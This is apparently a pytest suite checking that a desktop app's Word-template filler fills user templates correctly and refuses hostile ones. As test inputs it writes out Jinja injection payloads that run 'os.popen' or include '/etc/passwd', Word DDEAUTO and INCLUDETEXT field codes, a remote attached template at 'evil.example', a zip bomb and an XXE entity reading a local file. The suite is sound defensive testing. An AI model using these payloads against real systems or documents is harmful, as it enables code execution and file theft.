"""The user's own templates: made, changed, filled; and what nobody's template may do."""

from __future__ import annotations

import io
import re
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from docx import Document as open_docx  # noqa: N813 - a function
from docx.enum.text import WD_COLOR_INDEX

from roadmap_desktop.documents import build as building
from roadmap_desktop.documents import filling, template
from roadmap_desktop.documents.build import names
from roadmap_desktop.documents.document import Paragraph
from roadmap_desktop.documents.untrusted import LARGEST
from roadmap_desktop.domain.dossier import Dossier
from roadmap_desktop.domain.errors import TemplateBroken, TemplateForeign
from roadmap_desktop.domain.records import Answer
from tests.builders import RESOURCES, TODAY, dossier, empty_side, form, full_dossier, library, side, words

FOLDER = RESOURCES / "documents"
NAMES = names(words())
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def filled(path: Path, name: str = "memorandum", found: Dossier | None = None, language: str = "en") -> Any:
    data = filling.fill(path, name, found or full_dossier(), library(), words(language), FOLDER, TODAY)
    return open_docx(io.BytesIO(data))


def written(folder: Path, *paragraphs: str) -> Path:
    made = open_docx()
    for text in paragraphs:
        made.add_paragraph(text)
    made.save(str(folder / "mine.docx"))
    return folder / "mine.docx"


def texts(made: Any) -> list[str]:
    return [paragraph.text for paragraph in made.paragraphs if paragraph.text]


def broken(path: Path, **options: Any) -> TemplateBroken:
    with pytest.raises(TemplateBroken) as caught:
        filled(path, **options)
    return caught.value


@pytest.mark.parametrize("language", ["en", "lv"])
@pytest.mark.parametrize("kind", ["community", "municipality"])
@pytest.mark.parametrize("name", NAMES)
def test_an_unchanged_template_says_what_the_document_says(
    name: str, kind: str, language: str, tmp_path: Path
) -> None:
    found = full_dossier(both=True)
    if kind == "municipality":
        found = found._replace(ours=found.theirs, theirs=found.ours)
    path = tmp_path / "mine.docx"
    path.write_bytes(template.make(name, form(kind, language), words(language), FOLDER))
    made = filled(path, name, found, language)
    everything = " ".join(" ".join(texts(made)).split())
    assert not re.search(r"[{}]|%p|\ue000|\ue001", everything)
    document = building.build(name, found, library(), words(language), FOLDER, TODAY)
    for block in document.blocks:
        if isinstance(block, Paragraph) and block.style not in ("clause", "fact", "line"):
            # Templates show an answer's list as lines of one paragraph.
            assert " ".join(block.text.split()) in everything, block


def test_what_the_user_changed_stays(tmp_path: Path) -> None:
    path = tmp_path / "mine.docx"
    path.write_bytes(template.make("memorandum", form(), words(), FOLDER))
    changed = open_docx(str(path))
    changed.paragraphs[0].runs[0].text = "Our own heading for {{ title }}"
    changed.add_paragraph("Only here: {{ c1.need }}").runs[0].bold = True
    changed.save(str(path))
    made = filled(path)
    assert made.paragraphs[0].text == "Our own heading for An afternoon room for the valley's children"
    last = made.paragraphs[-1]
    assert last.text.startswith("Only here: ")
    assert last.runs[0].bold


def test_a_marker_that_word_tore_into_pieces_is_still_filled(tmp_path: Path) -> None:
    made = open_docx()
    paragraph = made.add_paragraph("For ")
    for piece in ("{", "{ ti", "tle }", "} only"):
        paragraph.add_run(piece)
    made.save(str(tmp_path / "mine.docx"))
    assert texts(filled(tmp_path / "mine.docx"))[0].startswith("For An afternoon room")


def test_gaps_are_highlighted_inside_their_sentences(tmp_path: Path) -> None:
    path = written(tmp_path, "Before {{ c1.need }} between {{ c1.idea }} after", "{{ our.name }}")
    found = dossier(
        side(given={"c1.idea": Answer(checkpoint="c1.idea", text="an idea\nin two lines")}), empty_side()
    )
    made = filled(path, found=found)
    first = made.paragraphs[0]
    assert (
        first.text
        == "Before […: The local need – checkpoint 1 of step 1] between an idea\nin two lines after"
    )
    marked = [run.text for run in first.runs if run.font.highlight_color == WD_COLOR_INDEX.YELLOW]
    assert marked == ["[…: The local need – checkpoint 1 of step 1]"]


def test_gaps_are_highlighted_in_the_letterhead_as_well(tmp_path: Path) -> None:
    path = tmp_path / "mine.docx"
    path.write_bytes(template.make("first-letter", form(), words(), FOLDER))
    head = filled(path, "first-letter", dossier(empty_side(), empty_side())).sections[0].first_page_header
    runs = [run for paragraph in head.paragraphs for run in paragraph.runs if "[…" in run.text]
    assert runs
    assert all(run.font.highlight_color == WD_COLOR_INDEX.YELLOW for run in runs)
    assert "\ue000" not in "".join(paragraph.text for paragraph in head.paragraphs)


def test_two_versions_are_marked_here_as_well(tmp_path: Path) -> None:
    ours = side(
        given={"c1.need": Answer(checkpoint="c1.need", text="Ours.")}, disputed=frozenset(["c1.need"])
    )
    made = filled(
        written(tmp_path, "{% if c1.need %}{{ c1.need }}{% endif %}"), found=dossier(ours, empty_side())
    )
    last = made.paragraphs[0].runs[-1]
    assert last.text == "[…: two versions, choose one: The local need – checkpoint 1 of step 1]"
    assert last.font.highlight_color == WD_COLOR_INDEX.YELLOW


def test_conditions_ask_whether_something_is_known(tmp_path: Path) -> None:
    path = written(
        tmp_path,
        "{% if c1.need %}known{% else %}unknown{% endif %} {% if not c1.idea %}no idea{% endif %}",
        '{% if agreement.form == "participation" %}participation{% endif %}{{ c1.idea or "nothing yet" }}',
    )
    found = dossier(side(given={"c1.need": Answer(checkpoint="c1.need", text="x")}), empty_side())
    assert texts(filled(path, found=found)) == ["known no idea", "nothing yet"]


def test_answers_are_text_whatever_they_hold(tmp_path: Path) -> None:
    hostile = "{{ 7*7 }} {% for x in y %} <w:p/> & \ue000x\ue001"
    path = written(tmp_path, "{{ c1.need }}")
    found = dossier(side(given={"c1.need": Answer(checkpoint="c1.need", text=hostile)}), empty_side())
    assert texts(filled(path, found=found)) == ["{{ 7*7 }} {% for x in y %} <w:p/> & x"]


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ title.__class__ }}",
        "{{ our.__class__ }}",
        "{{ our.items() }}",
        "{{ our.get('name') }}",
        "{{ title.format(title) }}",
        "{{ range(999999999) }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum() }}",
        "{{ self._TemplateReference__context }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ title ~ title }}",
        "{{ title|upper }}",
        "{{ title|attr('__class__') }}",
        "{{ title|center(1000000000) }}",
        "{{ ['a', 'b'] }}",
        "{{ our['name'] }}",
        "{{ title[0:2] }}",
        "{% include '/etc/passwd' %}",
        "{% extends 'x.docx' %}",
        "{% import 'os' as os %}",
        "{% set x = title %}{{ x }}",
        "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
        "{% for x in title %}{{ x }}{% endfor %}",
        "{% for x in tables.action recursive %}{{ loop(tables.action) }}{% endfor %}",
        "{% for x in tables.action if x.what %}{{ x.what }}{% endfor %}",
        "{% for x in range(10**9) %}x{% endfor %}",
        "{% filter upper %}x{% endfilter %}",
        "{% call f() %}{% endcall %}",
        "{% with x = title %}{{ x }}{% endwith %}",
        "{% block x %}{% endblock %}",
        "{% autoescape false %}{{ c1.need }}{% endautoescape %}",
        "{{ title if title else today }}",
        "{{ title is defined }}",
        "{{ {'a': 1} }}",
        "{{ nothing_of_ours }}",
        "{{ c1.nede }}",
        "{{ our }}{{ our.secret }}",
        "{{ debug }}{% debug %}",
    ],
)
def test_no_code_from_a_template_runs(text: str, tmp_path: Path) -> None:
    start = time.monotonic()
    error = broken(written(tmp_path, "Harmless", f"Here: {text}"))
    assert error.data["reason"] in ("forbidden", "unknown", "grammar")
    assert time.monotonic() - start < 5


@pytest.mark.parametrize(
    ("text", "reason", "place"),
    [
        ("Dear {{ their.nmae }}!", "unknown", "Dear {{ their.nmae }}!"),
        ("Sum: {{ 1 + 1 }}", "forbidden", "Sum: {{ 1 + 1 }}"),
        ("Never closed: {{ title", "grammar", "Never closed: {{ title"),
        ("Closed twice: {{ title }} }}", "grammar", "Closed twice"),
        ("Closed wrongly: {{ title %}", "grammar", "Closed wrongly"),
        ("Never ended {% if title %}", "grammar", ""),
        ("What is {% vm %} this", "grammar", "What is {% vm %} this"),
        ("Begun nowhere {% endfor %}", "grammar", "Begun nowhere {% endfor %}"),
        ("Empty: {{ }}", "grammar", "Empty: {{ }}"),
    ],
)
def test_a_broken_template_names_the_place(text: str, reason: str, place: str, tmp_path: Path) -> None:
    error = broken(written(tmp_path, "First", text, "Last"))
    assert error.data["reason"] == reason
    assert place in str(error.data["place"])
    assert "<" not in str(error.data["place"])


@pytest.mark.parametrize("depth", [3, 6, 60])
def test_loops_within_loops_end_before_they_begin(depth: int, tmp_path: Path) -> None:
    rows_ = dossier(tools=True)._replace(actions=dossier(tools=True).actions * 100)
    text = "{% for x in tables.action %}" * depth + "{{ x.what }}" + "{% endfor %}" * depth
    start = time.monotonic()
    error = broken(written(tmp_path, text), found=rows_)
    assert error.data["reason"] in ("large", "forbidden", "grammar")
    assert time.monotonic() - start < 5


def test_a_long_answer_asked_for_a_thousand_times_is_too_much(tmp_path: Path) -> None:
    found = dossier(side(given={"c1.need": Answer(checkpoint="c1.need", text="x" * 100_000)}), empty_side())
    assert broken(written(tmp_path, "{{ c1.need }}" * 1000), found=found).data["reason"] == "large"


def test_brackets_nested_beyond_reason_are_refused(tmp_path: Path) -> None:
    for before, after in (("(", ")"), ("not ", "")):
        text = "{{ " + before * 5_000 + "title" + after * 5_000 + " }}"
        assert broken(written(tmp_path, text)).data["reason"] == "forbidden"


@pytest.mark.parametrize(
    "code", ["DDEAUTO c:\\\\windows\\\\cmd.exe", " INCLUDETEXT /etc/passwd", "INCLUDEPICTURE http://x/y"]
)
def test_fields_that_fetch_or_run_are_refused(code: str, tmp_path: Path) -> None:
    made = open_docx()
    paragraph = made.add_paragraph()
    half = len(code) // 2
    for piece in (code[:half], code[half:]):
        run = paragraph.add_run()
        instruction = run._r.makeelement(f"{W}instrText", {})
        instruction.text = piece
        run._r.append(instruction)
    made.save(str(tmp_path / "mine.docx"))
    error = broken(tmp_path / "mine.docx")
    assert error.data["reason"] == "forbidden"
    assert str(error.data["place"]) in " ".join(code.split())


def test_the_template_of_a_template_is_forgotten(tmp_path: Path) -> None:
    made = open_docx()
    settings = made.settings.element
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    key = made.part._settings_part.relate_to("http://evil.example/x.dotm", kind, is_external=True)
    link = settings.makeelement(
        f"{W}attachedTemplate",
        {"{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id": key},
    )
    settings.append(link)
    made.add_paragraph("{{ title }}")
    made.save(str(tmp_path / "mine.docx"))
    out = io.BytesIO()
    filled(tmp_path / "mine.docx").save(out)
    with zipfile.ZipFile(out) as archive:
        assert not [name for name in archive.namelist() if b"evil.example" in archive.read(name)]


def test_what_is_no_word_file_is_said_to_be_none(tmp_path: Path) -> None:
    path = tmp_path / "mine.docx"
    for data in (b"", b"hello", b"PK\x03\x04 torn", b"\xd0\xcf\x11\xe0 an old .doc"):
        path.write_bytes(data)
        with pytest.raises(TemplateForeign):
            filled(path)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "not Word")
    with pytest.raises(TemplateForeign):
        filled(path)
    with pytest.raises(FileNotFoundError):
        filled(tmp_path / "absent.docx")


def test_a_torn_word_file_is_refused(tmp_path: Path) -> None:
    whole = written(tmp_path, "{{ title }}").read_bytes()
    path = tmp_path / "torn.docx"
    for cut in range(100, len(whole), len(whole) // 12):
        path.write_bytes(whole[:cut])
        with pytest.raises(TemplateForeign):
            filled(path)


def test_a_bomb_is_not_unpacked(tmp_path: Path) -> None:
    path = written(tmp_path, "x")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/image1.png", b"\0" * (LARGEST + 1))
    assert path.stat().st_size < 1_000_000
    assert broken(path).data["reason"] == "large"


def test_entities_in_a_template_read_no_files(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret")
    whole = written(tmp_path, "&x; marker")
    path = tmp_path / "entities.docx"
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "word/document.xml":
                head = f'<!DOCTYPE x [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'.encode()
                data = re.sub(rb"(<\?xml[^>]*\?>)", rb"\1" + head, data).replace(b"&amp;x;", b"&x;")
            target.writestr(name, data)
    try:
        made = filled(path)
    except (TemplateForeign, TemplateBroken):
        return
    assert "the secret" not in " ".join(texts(made))


def test_properties_of_the_template_are_no_templates_and_do_not_leave(tmp_path: Path) -> None:
    made = open_docx()
    made.core_properties.title = "{{ c1.need }}"
    made.core_properties.author = "{{ ''.__class__ }} Somebody Else"
    made.core_properties.comments = "internal"
    made.save(str(tmp_path / "mine.docx"))
    about = filled(tmp_path / "mine.docx").core_properties
    assert (about.title, about.author, about.comments) == (
        "Memorandum of cooperation", "Valley Youth Association", "",
    )  # fmt: skip
